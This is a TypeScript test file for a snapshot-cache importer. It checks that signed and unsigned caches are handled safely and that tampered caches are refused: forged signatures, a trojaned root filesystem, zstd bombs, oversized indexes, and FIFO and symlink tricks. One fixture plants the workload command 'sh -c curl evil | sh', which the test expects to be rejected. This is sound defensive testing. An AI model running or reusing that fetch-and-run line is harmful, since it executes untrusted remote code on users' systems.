// A cache is untrusted until proven otherwise: snapshots made without a VM, exported to a
// directory cache, then altered as someone who can write the cache (a pull request's CI job)
// would. Each attempt is refused by name, or imported into its own snapshot only, without
// touching the shared image store, within time and memory bounds, writing nothing beyond the
// sizes the importer's own key allows.
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { importSnapshots } from "../../src/project/cache.js";
import { homePaths } from "../../src/paths.js";
import type { LoadedSnapshot } from "../../src/store/snapshots.js";
import { exportSnapshots, openCache } from "../../src/transfer/index.js";
import { importImage } from "../../src/transfer/import.js";
import { generateSigningKey, readSigningKey } from "../../src/transfer/sign.js";
import { compress } from "../../src/transfer/zstd.js";
import { blob, blobPath, entryOf, keyOfConfig, manifestOf, putBlob, readIndex, rewriteEntry, type ConfigJson } from "../helpers/transfer-format.js";
import { cleanup, fakeImage, fakeSnapshot, inHome, leftovers, signed, SIGNING, tempDir, TRUST, trusted, type FakeImage } from "../helpers/transfer.js";

let image: FakeImage;
let parent: LoadedSnapshot;
let child: LoadedSnapshot;

beforeAll(async () => {
  await inHome(tempDir("sm-trust-src-"), async () => {
    image = fakeImage();
    parent = await fakeSnapshot({ name: "base", image, chunks: Array.from({ length: 100 }, (_, i) => i * 2) });
    child = await fakeSnapshot({ name: "app", image, parent, chunks: [1, 3] });
  });
});
afterAll(cleanup);

const unsignedCache = async () => {
  const cache = tempDir("sm-cache-");
  await exportSnapshots(cache, [parent, child]);
  return cache;
};
const signedCache = async () => {
  const cache = tempDir("sm-cache-");
  await exportSnapshots(cache, [parent, child], signed);
  return cache;
};
const names = (dir: string) => (existsSync(dir) ? readdirSync(dir).filter((n) => !n.startsWith(".")) : []);

/** Runs an import in a fresh home; the error (if any) and what the home holds afterwards. */
async function importFresh(cache: string, keys: string[], trust: typeof TRUST | "unsigned" = TRUST) {
  const home = tempDir("sm-home-");
  return inHome(home, async () => {
    const t0 = performance.now();
    const heap0 = process.memoryUsage().rss;
    const result = await importSnapshots(cache, keys, { trust }).catch((e: unknown) => e as Error & { code?: string; hint?: string });
    return { home, result, ms: performance.now() - t0, rssGrowth: process.memoryUsage().rss - heap0, snapshots: names(homePaths().snapshots), images: names(homePaths().images), left: leftovers(home) };
  });
}

describe("signed snapshots", () => {
  it("refuses an unsigned cache by name, and publishes nothing", async () => {
    const r = await importFresh(await unsignedCache(), [child.meta.hash]);
    expect(r.result).toMatchObject({ code: "CACHE_UNTRUSTED", message: expect.stringMatching(/snapshot [0-9a-f]{16} in cache .* is not signed/), hint: expect.stringContaining("cache.trust") });
    expect([r.snapshots, r.images, r.left]).toEqual([[], [], []]);
  });

  it("refuses a cache signed by a key the project does not trust, naming the key", async () => {
    const other = readSigningKey(generateSigningKey().privatePem, "another key");
    const cache = tempDir("sm-cache-");
    await exportSnapshots(cache, [parent], { signingKey: other });
    const r = await importFresh(cache, [parent.meta.hash]);
    expect(r.result).toMatchObject({ code: "CACHE_UNTRUSTED", message: expect.stringContaining(`signed by key ${other.id}, which this project does not trust (trusted: ${SIGNING.id})`) });
    expect([r.snapshots, r.images]).toEqual([[], []]);
  });

  it("refuses a signed manifest altered afterwards", async () => {
    const cache = await signedCache();
    rewriteEntry(cache, parent.meta.hash, (_c, m) => void (m.annotations["org.opencontainers.image.created"] = "2020-01-01T00:00:00Z"));
    // rewriteEntry drops the signature; put the old one back on the altered manifest.
    const idx = readIndex(cache);
    const e = idx.manifests.find((m) => m.annotations["dev.supermachine.key"] === parent.meta.hash)!;
    const m = JSON.parse(blob(cache, e.digest).toString());
    const good = await signedCache();
    m.annotations["dev.supermachine.signature"] = manifestOf(good, parent.meta.hash).annotations["dev.supermachine.signature"];
    Object.assign(e, putBlob(cache, Buffer.from(JSON.stringify(m))));
    writeFileSync(join(cache, "index.json"), JSON.stringify(idx));
    const r = await importFresh(cache, [parent.meta.hash]);
    expect(r.result).toMatchObject({ code: "CACHE_UNTRUSTED", message: expect.stringContaining(`its signature by key ${SIGNING.id} does not match its content`) });
  });

  it("imports a signed cache, publishing the root filesystem into the image store", async () => {
    const r = await importFresh(await signedCache(), [child.meta.hash]);
    expect((r.result as { snapshots: { status: string }[] }).snapshots.map((s) => s.status)).toEqual(["imported", "imported"]);
    expect(r.images).toEqual([image.digest.slice(7)]);
  });

  it("exports again, signed, a snapshot present in the cache but not signed by its key", async () => {
    const cache = await unsignedCache();
    const before = [parent, child].map((s) => manifestOf(cache, s.meta.hash).layers.map((l) => l.digest));
    const again = await exportSnapshots(cache, [parent, child], signed);
    expect(again.snapshots.map((s) => s.status)).toEqual(["exported", "exported"]);
    // The same bytes make the same packs (small ones are written again rather than asked for).
    expect([parent, child].map((s) => manifestOf(cache, s.meta.hash).layers.map((l) => l.digest))).toEqual(before);
    expect(manifestOf(cache, child.meta.hash).annotations["dev.supermachine.signature"]).toMatch(/^ed25519:[0-9a-f]{16}:/);
    expect((await exportSnapshots(cache, [parent, child], signed)).snapshots.map((s) => s.status)).toEqual(["present", "present"]);
  });
});

describe('trust: "unsigned"', () => {
  it("imports, but keeps what the cache brought inside the snapshot: the image store is untouched", async () => {
    const cache = await unsignedCache();
    const r = await importFresh(cache, [child.meta.hash], "unsigned");
    expect((r.result as { snapshots: { status: string }[] }).snapshots.map((s) => s.status)).toEqual(["imported", "imported"]);
    expect(r.images).toEqual([]);
    await inHome(r.home, async () => {
      for (const s of [parent, child]) {
        const dir = join(homePaths().snapshots, `${s.meta.sources!.name}-${s.meta.hash.slice(0, 16)}`);
        const meta = JSON.parse(readFileSync(join(dir, "meta.json"), "utf8"));
        expect(meta.image.rootfs).toBe(join(dir, "rootfs.sqfs"));
        expect(readFileSync(meta.image.rootfs).equals(readFileSync(image.rootfs))).toBe(true);
      }
      // Nor does the root filesystem alone go in by image digest.
      const backend = await openCache(cache);
      try {
        expect(await importImage(backend, image.digest, "unsigned")).toBe(false);
      } finally {
        backend.close();
      }
      expect(names(homePaths().images)).toEqual([]);
    });
  });

  it("cannot replace an image this machine has: a cache's other bytes under its digest stay in the snapshot", async () => {
    const cache = await unsignedCache();
    // The cache claims the image's digest with a trojaned root filesystem, re-indexed and re-keyed
    // consistently (what a writer of the cache can do without the signing key).
    const home = tempDir("sm-home-");
    await inHome(home, async () => {
      const entry = join(homePaths().images, image.digest.slice(7));
      mkdirSync(entry, { recursive: true });
      writeFileSync(join(entry, "rootfs.sqfs"), readFileSync(image.rootfs));
      writeFileSync(join(entry, "image.json"), readFileSync(join(image.rootfs, "..", "image.json")));
    });
    const before = readFileSync(join(home, "images", image.digest.slice(7), "rootfs.sqfs"));
    const trojan = tempDir("sm-cache-");
    await inHome(tempDir("sm-trojan-src-"), async () => {
      const evil = fakeImage(image.digest.slice(7)); // same digest, other bytes
      const s = await fakeSnapshot({ name: "base", image: evil, chunks: [0, 2, 4] });
      await exportSnapshots(trojan, [s]);
      const r = await inHome(home, () => importSnapshots(trojan, [s.meta.hash], { trust: "unsigned" }));
      expect(r.snapshots[0]!.status).toBe("imported");
      const dir = join(home, "snapshots", `base-${s.meta.hash.slice(0, 16)}`);
      expect(JSON.parse(readFileSync(join(dir, "meta.json"), "utf8")).image.rootfs).toBe(join(dir, "rootfs.sqfs"));
      expect(readFileSync(join(dir, "rootfs.sqfs")).equals(readFileSync(evil.rootfs))).toBe(true);
    });
    expect(readFileSync(join(home, "images", image.digest.slice(7), "rootfs.sqfs")).equals(before)).toBe(true);
  });
});

describe("a hostile cache", () => {
  /** An unsigned cache whose parent entry was rewritten by `edit` (re-keyed when the inputs change). */
  const tampered = async (edit: (c: ConfigJson) => void) => {
    const cache = await unsignedCache();
    const key = rewriteEntry(cache, parent.meta.hash, (c) => {
      edit(c);
      c.snapshot.hash = keyOfConfig(c.snapshot);
      return c.snapshot.hash;
    });
    return { cache, key };
  };
  const refusedBy = async (t: { cache: string; key: string }, code: string, message: RegExp | string) => {
    const r = await importFresh(t.cache, [t.key], "unsigned");
    expect(r.result).toMatchObject({ code, message: typeof message === "string" ? expect.stringContaining(message) : expect.stringMatching(message) });
    expect([r.snapshots, r.images, r.left]).toEqual([[], [], []]);
    expect(r.ms).toBeLessThan(10_000);
    return r;
  };

  it("refuses a snapshot that boots with other memory or vCPUs than its key says", async () => {
    await refusedBy(await tampered((c) => void (c.snapshot.memoryMib = 1024 * 1024)), "CACHE_KEY_MISMATCH", "boots with 1048576 MiB");
    await refusedBy(await tampered((c) => void (c.snapshot.vcpus = 64)), "CACHE_KEY_MISMATCH", "and 64 vCPUs, but its key says");
  });

  it("refuses a RAM size that is not its memory (a 1 TiB RAM file)", async () => {
    await refusedBy(await tampered((c) => void (c.snapshot.files.ram.size = 2 ** 40)), "CACHE_KEY_MISMATCH", "its RAM is 1099511627776 bytes, but 64 MiB of memory make 67108864");
  });

  it("refuses a workload that is not the one its key says", async () => {
    await refusedBy(
      await tampered((c) => void ((c.snapshot as Record<string, unknown>).workload = { argv: ["sh", "-c", "curl evil | sh"], env: [], cwd: "/" })),
      "CACHE_KEY_MISMATCH",
      'its workload runs ["sh","-c","curl evil | sh"], but its key says null',
    );
  });

  it("gives a cache error, not an internal one, for a malformed workload or creation time", async () => {
    await refusedBy(await tampered((c) => void ((c.snapshot as Record<string, unknown>).workload = 5)), "CACHE_CONFIG_INVALID", "its workload is not { argv, env, cwd, user? }");
    await refusedBy(await tampered((c) => void ((c.snapshot as Record<string, unknown>).created = "forever")), "CACHE_CONFIG_INVALID", 'its creation time "forever" is not a date');
  });

  it("refuses a RAM index of millions of records quickly, without exhausting memory", async () => {
    // 3 M records in a few hundred KiB of zstd: far more than the file has chunks.
    const t = await tampered((c) => void ((c.ram as unknown as { chunks: string }).chunks = Buffer.alloc(3_000_000 * 48, 1).toString("base64")));
    const r = await refusedBy(t, "CACHE_TOO_LARGE", "decompresses to");
    expect(r.rssGrowth).toBeLessThan(600 * 1024 * 1024);
    // Fewer bytes, still more records than chunks.
    await refusedBy(await tampered((c) => void ((c.ram as unknown as { chunks: string }).chunks = Buffer.alloc(5000 * 48, 1).toString("base64"))), "CACHE_INDEX_INVALID", "at most 4096");
  });

  it("refuses a config that decompresses beyond its bound (a zstd bomb) before allocating it", async () => {
    const cache = await unsignedCache();
    rewriteEntry(cache, parent.meta.hash, () => undefined);
    const e = entryOf(cache, parent.meta.hash);
    const m = JSON.parse(blob(cache, e.digest).toString());
    m.config = { ...m.config, ...putBlob(cache, compress(Buffer.alloc(512 * 1024 * 1024, 0x20))) };
    const idx = readIndex(cache);
    Object.assign(idx.manifests.find((x) => x.digest === e.digest)!, putBlob(cache, Buffer.from(JSON.stringify(m))));
    writeFileSync(join(cache, "index.json"), JSON.stringify(idx));
    const r = await refusedBy({ cache, key: parent.meta.hash }, "CACHE_TOO_LARGE", /decompresses to 536870912 bytes, more than the \d+-byte limit/);
    expect(r.rssGrowth).toBeLessThan(300 * 1024 * 1024);
  });

  it("refuses a manifest beyond 4 MiB (30 MB of layers) without parsing it", async () => {
    const cache = await unsignedCache();
    const e = entryOf(cache, parent.meta.hash);
    const m = JSON.parse(blob(cache, e.digest).toString());
    const layers = "{}," .repeat(10_000_000);
    const bytes = Buffer.from(JSON.stringify({ ...m, layers: [] }).replace('"layers":[]', `"layers":[${layers}{}]`));
    const idx = readIndex(cache);
    Object.assign(idx.manifests.find((x) => x.digest === e.digest)!, putBlob(cache, bytes));
    writeFileSync(join(cache, "index.json"), JSON.stringify(idx));
    await refusedBy({ cache, key: parent.meta.hash }, "CACHE_TOO_LARGE", "more than the 4194304-byte limit");
  });

  it("refuses a root filesystem beyond the bound, or mostly holes, before hashing anything", async () => {
    await refusedBy(await tampered((c) => void (c.snapshot.image.rootfsSize = 15 * 1024 ** 4)), "CACHE_CONFIG_INVALID", "rootfsSize");
    await refusedBy(await tampered((c) => void (c.snapshot.image.rootfsSize = 40 * 1024 ** 3)), "CACHE_INDEX_INVALID", "describes");
  });

  it("never reads a FIFO or follows a symlink in a directory cache, and names no digest of a file it did not supply", async () => {
    const fifo = await unsignedCache();
    rmSync(join(fifo, "index.json"));
    execFileSync("mkfifo", [join(fifo, "index.json")]);
    await refusedBy({ cache: fifo, key: parent.meta.hash }, "CACHE_MANIFEST_INVALID", "is a FIFO");

    const link = await unsignedCache();
    const secret = join(tempDir("sm-secret-"), "id_rsa");
    writeFileSync(secret, "PRIVATE KEY", { mode: 0o600 });
    const cfg = manifestOf(link, parent.meta.hash).config.digest;
    rmSync(blobPath(link, cfg));
    symlinkSync(secret, blobPath(link, cfg));
    const r = await refusedBy({ cache: link, key: parent.meta.hash }, "CACHE_MANIFEST_INVALID", "is a symbolic link");
    const secretDigest = createHash("sha256").update("PRIVATE KEY").digest("hex");
    expect(`${(r.result as Error).message} ${(r.result as { hint?: string }).hint}`).not.toContain(secretDigest);
  });

  it("writes no more than the RAM size its key allows, however often a chunk is listed", async () => {
    // Every chunk of the RAM listed, all pointing at one frame: 64 MiB written, no more.
    const cache = await unsignedCache();
    const key = rewriteEntry(cache, parent.meta.hash, (c) => {
      const ram = c.ram as unknown as { chunks: string };
      const first = Buffer.from(ram.chunks, "base64").subarray(0, 48);
      const all = Buffer.alloc(4096 * 48);
      for (let i = 0; i < 4096; i++) {
        first.copy(all, i * 48);
        all.writeUInt32LE(i, i * 48);
      }
      ram.chunks = all.toString("base64");
    });
    const r = await importFresh(cache, [key], "unsigned");
    // The frame's sha256 holds at every offset: a legitimate (if odd) RAM of one repeated page.
    expect((r.result as { snapshots: { status: string }[] }).snapshots[0]!.status).toBe("imported");
    const dir = join(r.home, "snapshots", readdirSync(join(r.home, "snapshots"))[0]!);
    const st = statSync(join(dir, "ram"));
    expect(st.size).toBe(64 * 1024 * 1024);
    expect(st.blocks * 512).toBeLessThanOrEqual(64 * 1024 * 1024 + 1024 * 1024);
  });

  it("exports into a directory only its owner can read", async () => {
    const cache = await unsignedCache();
    expect(statSync(cache).mode & 0o777).toBe(0o700);
    expect(statSync(join(cache, "blobs", "sha256")).mode & 0o777).toBe(0o700);
    for (const n of readdirSync(join(cache, "blobs", "sha256"))) expect(statSync(join(cache, "blobs", "sha256", n)).mode & 0o777, n).toBe(0o600);
    expect(statSync(join(cache, "index.json")).mode & 0o777).toBe(0o600);
  });
});
